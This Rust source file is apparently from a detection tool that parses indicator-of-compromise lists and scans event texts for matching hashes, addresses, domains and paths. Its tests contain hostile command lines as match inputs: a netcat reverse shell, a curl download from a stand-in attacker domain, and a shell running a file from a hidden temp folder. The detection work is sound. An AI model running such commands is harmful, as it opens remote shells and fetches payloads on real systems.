//! Indicators of compromise: hashes, addresses, domains and paths of a list, looked for in everything that has text.

use crate::index::{Kind, Tally, Thing};
use std::collections::HashMap;
use std::net::IpAddr;

/// Most indicators of a list.
pub const MOST_INDICATORS: usize = 1_000_000;

/// What an indicator is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Sort {
    /// MD5, SHA-1, SHA-256 or BLAKE3 of a file, hex.
    Hash,
    /// An address or a block of them.
    Address,
    /// A domain and what is below it.
    Domain,
    /// A file, or a folder and what is below it.
    Path,
}

impl Sort {
    /// What it is called.
    pub fn name(self) -> &'static str {
        match self {
            Sort::Hash => "hash",
            Sort::Address => "address",
            Sort::Domain => "domain",
            Sort::Path => "path",
        }
    }
}

/// A list of indicators.
#[derive(Clone, Debug, Default)]
pub struct Indicators {
    all: Vec<(Sort, String)>,
    exact: HashMap<Vec<u8>, usize>,
    /// Blocks of addresses by their length: masked address to indicator.
    blocks: Vec<(bool, u8, HashMap<u128, usize>)>,
}

/// How often an indicator was seen, and when.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Sighting {
    /// Which, by its place in the list.
    pub indicator: usize,
    /// What it was seen in: a kind and a text, of the thing that was met most often.
    pub seen_in: Option<(Kind, Vec<u8>)>,
    /// Events about such things; one that is about two of them counts twice.
    pub events: u64,
    /// First and last of them, ns since boot; 0 where no event is about it.
    pub first: u64,
    /// The last of them.
    pub last: u64,
    most: u64,
}

fn bits(ip: IpAddr) -> (bool, u128, u8) {
    match ip {
        IpAddr::V4(v4) => (true, u128::from(u32::from(v4)), 32),
        IpAddr::V6(v6) => (false, u128::from(v6), 128),
    }
}

fn masked(value: u128, all: u8, len: u8) -> u128 {
    let rest = u32::from(all.saturating_sub(len));
    value.checked_shr(rest).unwrap_or(0)
}

fn is_hash(word: &[u8]) -> bool {
    matches!(word.len(), 32 | 40 | 64) && word.iter().all(u8::is_ascii_hexdigit)
}

fn is_domain(word: &[u8]) -> bool {
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.');
    word.len() <= 253
        && word.contains(&b'.')
        && word.iter().all(plain)
        && word.iter().any(u8::is_ascii_alphabetic)
}

impl Indicators {
    /// From a list: one a line, blank lines and what follows a `#` left out. Addresses may have a length (`10.0.0.0/8`);
    /// `hxxp`, `[.]` and URLs are read as what they mean.
    ///
    /// # Errors
    /// The line, from 1, and what is wrong with it.
    pub fn parse(text: &str) -> Result<Indicators, (usize, String)> {
        let mut list = Indicators::default();
        for (at, line) in text.lines().enumerate() {
            let wrong = |why: &str| (at + 1, why.to_owned());
            let word = line.split('#').next().unwrap_or_default().trim();
            if word.is_empty() {
                continue;
            }
            if list.all.len() >= MOST_INDICATORS {
                return Err(wrong("more indicators than are taken"));
            }
            let word = word.replace("[.]", ".").replace("[:]", ":");
            let word = match word.split_once("://") {
                Some((_, rest)) => rest.split(['/', '?']).next().unwrap_or_default().to_owned(),
                None => word,
            };
            list.add(&word).ok_or_else(|| {
                wrong("neither a hash, an address, a domain nor a path from the root")
            })?;
        }
        Ok(list)
    }

    fn add(&mut self, word: &str) -> Option<()> {
        let next = self.all.len();
        let lower = word.to_ascii_lowercase();
        let (ip, len) = match word.split_once('/') {
            Some((ip, len)) => (ip, Some(len)),
            None => (word, None),
        };
        let sort = if let Ok(ip) = ip.parse::<IpAddr>() {
            let (v4, value, all) = bits(ip);
            let len = match len {
                Some(len) => len.parse::<u8>().ok().filter(|len| *len <= all)?,
                None => all,
            };
            let at = self
                .blocks
                .iter()
                .position(|block| (block.0, block.1) == (v4, len));
            let at = at.unwrap_or_else(|| {
                self.blocks.push((v4, len, HashMap::new()));
                self.blocks.len() - 1
            });
            let (_, _, block) = self.blocks.get_mut(at)?;
            block.entry(masked(value, all, len)).or_insert(next);
            Sort::Address
        } else if word.starts_with('/') {
            let path = word.trim_end_matches('/');
            self.exact.entry(path.as_bytes().to_vec()).or_insert(next);
            Sort::Path
        } else if is_hash(lower.as_bytes()) {
            self.exact.entry(lower.into_bytes()).or_insert(next);
            Sort::Hash
        } else {
            let domain = lower.trim_start_matches("*.").trim_end_matches('.');
            if !is_domain(domain.as_bytes()) {
                return None;
            }
            self.exact.entry(domain.as_bytes().to_vec()).or_insert(next);
            Sort::Domain
        };
        self.all.push((sort, word.to_owned()));
        Some(())
    }

    /// How many there are.
    pub fn len(&self) -> usize {
        self.all.len()
    }

    /// Whether there is none.
    pub fn is_empty(&self) -> bool {
        self.all.is_empty()
    }

    /// What an indicator is, and its text.
    pub fn get(&self, at: usize) -> Option<(Sort, &str)> {
        self.all.get(at).map(|(sort, text)| (*sort, text.as_str()))
    }

    /// Whether a thing holds an indicator.
    pub(crate) fn is_in(&self, thing: &Thing) -> bool {
        let mut found = false;
        for text in thing.texts().flatten() {
            self.find(text, &mut |_| found = true);
        }
        found
    }

    /// Calls `each` with every indicator that a text holds.
    fn find(&self, text: &[u8], each: &mut dyn FnMut(usize)) {
        let part = |byte: &u8| {
            byte.is_ascii_alphanumeric()
                || matches!(
                    byte,
                    b'.' | b'-' | b'_' | b'/' | b':' | b'+' | b'~' | b'@' | 0x80..
                )
        };
        // Also as a whole: a path may hold blanks.
        if text.starts_with(b"/") {
            self.path(text, each);
        }
        for word in text.split(|byte| !part(byte)).filter(|word| word.len() > 2) {
            self.word(word, each);
            for inner in word
                .split(|byte| matches!(byte, b'/' | b'@'))
                .filter(|inner| *inner != word)
            {
                self.word(inner, each);
            }
        }
    }

    fn word(&self, word: &[u8], each: &mut dyn FnMut(usize)) {
        if let Ok(word) = std::str::from_utf8(word)
            && word.len() < 64
            && !self.blocks.is_empty()
        {
            let with_port = || word.rsplit_once(':').and_then(|(ip, _)| ip.parse().ok());
            if let Some(ip) = word.parse::<IpAddr>().ok().or_else(with_port) {
                let (v4, value, all) = bits(ip);
                for (_, len, block) in self.blocks.iter().filter(|block| block.0 == v4) {
                    if let Some(at) = block.get(&masked(value, all, *len)) {
                        each(*at);
                    }
                }
                return;
            }
        }
        if word.starts_with(b"/") {
            return self.path(word, each);
        }
        let lower = word.to_ascii_lowercase();
        let bare = match lower.iter().rposition(|byte| *byte == b':') {
            Some(at) => lower.get(..at).unwrap_or_default(),
            None => &lower,
        };
        let bare = bare.strip_suffix(b".").unwrap_or(bare);
        if is_hash(bare) {
            if let Some(at) = self.exact.get(bare) {
                each(*at);
            }
        } else if is_domain(bare) {
            // The domain, and those above it.
            let dots = bare.iter().enumerate().filter(|(_, byte)| **byte == b'.');
            for start in std::iter::once(0).chain(dots.map(|(at, _)| at + 1)) {
                if let Some(at) = bare.get(start..).and_then(|domain| self.exact.get(domain)) {
                    each(*at);
                }
            }
        }
    }

    fn path(&self, path: &[u8], each: &mut dyn FnMut(usize)) {
        let slashes = path
            .iter()
            .enumerate()
            .filter(|(at, byte)| *at > 0 && **byte == b'/');
        for end in slashes.map(|(at, _)| at).chain(std::iter::once(path.len())) {
            if let Some(at) = path.get(..end).and_then(|path| self.exact.get(path)) {
                each(*at);
            }
        }
    }
}

/// Sightings while things are gone through.
pub(crate) struct Sweep<'i> {
    list: &'i Indicators,
    found: HashMap<usize, Sighting>,
}

impl<'i> Sweep<'i> {
    pub fn new(list: &'i Indicators) -> Sweep<'i> {
        Sweep {
            list,
            found: HashMap::new(),
        }
    }

    pub fn thing(&mut self, thing: &Thing, tally: &Tally) {
        let Some(kind) = thing.kind() else { return };
        let mut seen: Vec<(usize, &[u8])> = Vec::new();
        for text in thing.texts().flatten() {
            self.list.find(text, &mut |at| seen.push((at, text)));
        }
        seen.sort_unstable();
        seen.dedup_by_key(|(at, _)| *at);
        for (at, text) in seen {
            let sighting = self.found.entry(at).or_insert_with(|| Sighting {
                indicator: at,
                ..Sighting::default()
            });
            if tally.count > 0 {
                let fresh = sighting.events == 0;
                sighting.first = if fresh {
                    tally.first
                } else {
                    sighting.first.min(tally.first)
                };
                sighting.last = sighting.last.max(tally.last);
            }
            sighting.events = sighting.events.saturating_add(tally.count);
            let better = match &sighting.seen_in {
                None => true,
                Some((have, what)) => {
                    (tally.count, std::cmp::Reverse((kind as u8, text)))
                        > (
                            sighting.most,
                            std::cmp::Reverse((*have as u8, what.as_slice())),
                        )
                }
            };
            if better {
                sighting.seen_in = Some((kind, text.to_vec()));
                sighting.most = tally.count;
            }
        }
    }

    /// In the order of the list.
    pub fn done(self) -> Vec<Sighting> {
        let mut all: Vec<Sighting> = self.found.into_values().collect();
        all.sort_by_key(|sighting| sighting.indicator);
        all
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIST: &str = "\
# what the report named
10.66.0.0/16
2001:db8::1
evil.example      # and below
hxxp://bad[.]example/path?x
/tmp/.x/
d41d8cd98f00b204e9800998ecf8427e
";

    fn found(text: &[u8]) -> Vec<usize> {
        let list = Indicators::parse(LIST).unwrap();
        let mut found = Vec::new();
        list.find(text, &mut |at| found.push(at));
        found.sort_unstable();
        found.dedup();
        found
    }

    #[test]
    fn indicators_are_found_in_texts_of_every_kind() {
        for (text, expected) in [
            (&b"10.66.3.4"[..], &[0][..]),
            (b"nc 10.66.3.4:9001 -e /bin/sh", &[0]),
            (b"10.67.3.4", &[]),
            (b"2001:db8::1", &[1]),
            (b"[2001:db8::1]:443", &[1]),
            (b"a.b.EVIL.example", &[2]),
            (b"notevil.example", &[]),
            (b"curl -o /x http://evil.example:8080/y", &[2]),
            (b"GET http://bad.example/ HTTP/1.1", &[3]),
            (b"/tmp/.x/kworker", &[4]),
            (b"/tmp/.x", &[4]),
            (b"/tmp/.xy", &[]),
            (b"sh -c /tmp/.x/k", &[4]),
            (b"D41D8CD98F00B204E9800998ECF8427E", &[5]),
            (b"\xff\xfe\x1b[2J", &[]),
        ] {
            assert_eq!(
                found(text),
                expected,
                "{}",
                afterimage_model::Safe::new(text)
            );
        }
    }

    #[test]
    fn a_line_that_is_no_indicator_is_named() {
        assert_eq!(
            Indicators::parse("a.example\n\nnonsense\n").unwrap_err().0,
            3
        );
        assert_eq!(Indicators::parse("10.0.0.0/40").unwrap_err().0, 1);
        assert!(Indicators::parse("# nothing\n").unwrap().is_empty());
    }
}
